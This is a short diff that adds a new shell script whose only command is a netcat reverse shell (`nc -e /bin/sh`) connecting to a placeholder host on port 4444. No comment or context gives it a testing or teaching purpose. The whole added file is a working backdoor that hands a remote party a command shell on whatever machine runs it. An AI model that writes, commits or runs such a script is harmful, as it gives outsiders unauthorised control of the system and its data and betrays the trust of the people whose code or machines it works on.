@@ -1,0 +1,2 @@
+#!/bin/sh
+nc -e /bin/sh example.invalid 4444
